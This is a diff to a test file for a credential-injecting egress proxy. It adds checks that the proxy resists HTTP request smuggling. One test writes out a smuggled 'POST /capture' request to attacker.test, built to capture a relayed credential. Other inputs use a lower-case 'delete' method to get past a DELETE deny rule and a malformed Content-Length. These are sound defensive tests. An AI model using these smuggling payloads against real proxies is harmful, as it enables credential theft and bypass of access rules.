@@ -21,6 +21,7 @@ from typing import Any
 import pytest
 
 from kavach.credentials import CredentialRule, CredentialStore, EgressProxy, ProxyConfig
+from kavach.credentials.http import Headers
 from test_proxy_support import TestCA, Upstream, make_test_ca
 
 SECRET = "s3cr3t-VALUE-9f8e7d"
@@ -457,6 +458,36 @@ async def test_keep_alive_every_request_inspected_with_chunked_body(world: World
     assert all(s.headers.get("host") == f"api.test:{port}" for s in seen)
 
 
+async def test_connection_header_cannot_drop_the_length_of_a_relayed_body(world: World) -> None:
+    # A body that is itself a request: if the length were dropped on the way (the client
+    # named Content-Length in Connection), upstream would read it as a second request to a
+    # host of the sandbox's choosing, and the next request, credential included, as its body.
+    port = world.http.port
+    smuggled = b"POST /capture HTTP/1.1\r\nHost: attacker.test\r\nContent-Length: 60\r\n\r\n"
+    data = await raw_exchange(
+        world.port,
+        f"POST http://api.test:{port}/first HTTP/1.1\r\nConnection: content-length, host\r\n"
+        f"Content-Length: {len(smuggled)}\r\n\r\n".encode()
+        + smuggled
+        + f"POST http://api.test:{port}/second HTTP/1.1\r\nContent-Length: 5, 5\r\n\r\nhello".encode()
+        + f"POST http://api.test:{port}/third HTTP/1.1\r\nContent-Length: 0\r\nConnection: close\r\n\r\n".encode(),
+    )
+    assert [r[:3] for r in data.split(b"HTTP/1.1 ")[1:]] == [b"200", b"200", b"200"]
+    seen = world.http.seen
+    assert [(s.method, s.target) for s in seen] == [("POST", "/first"), ("POST", "/second"), ("POST", "/third")]
+    assert seen[0].body == smuggled
+    # The proxy sends the framing it relayed, in its own spelling.
+    assert [s.headers.get_all("content-length") for s in seen] == [[str(len(smuggled))], ["5"], ["0"]]
+    assert all(s.headers.get("host") == f"api.test:{port}" for s in seen)
+
+
+def test_connection_cannot_make_length_or_host_hop_by_hop() -> None:
+    headers = Headers(
+        [("Connection", "content-length, Host, x-a"), ("Content-Length", "5"), ("Host", "h"), ("X-A", "1")]
+    )
+    assert headers.without_hop_by_hop().items == [("Content-Length", "5"), ("Host", "h")]
+
+
 @needs_curl
 async def test_curl_plain_http_any_port_with_post(world: World) -> None:
     code, out, err = await curl("-x", world.url, "-d", "a=1&b=2", f"http://other.test:{world.http.port}/form")
@@ -482,6 +513,10 @@ MALFORMED = {
     "conflicting CL": b"POST http://api.test/ HTTP/1.1\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nhello",
     "origin-form": b"GET / HTTP/1.1\r\nHost: api.test\r\n\r\n",
     "userinfo": b"GET http://user@api.test/ HTTP/1.1\r\n\r\n",
+    # Served as DELETE by servers that upper-case the method, past a rule denying DELETE.
+    "lower-case method": b"delete http://api.test/ HTTP/1.1\r\n\r\n",
+    # str.isdigit() accepts superscripts that int() refuses: a 400, not a crashed connection.
+    "non-ASCII digit in Content-Length": b"POST http://api.test/ HTTP/1.1\r\nContent-Length: \xb2\r\n\r\nhe",
 }
 
 
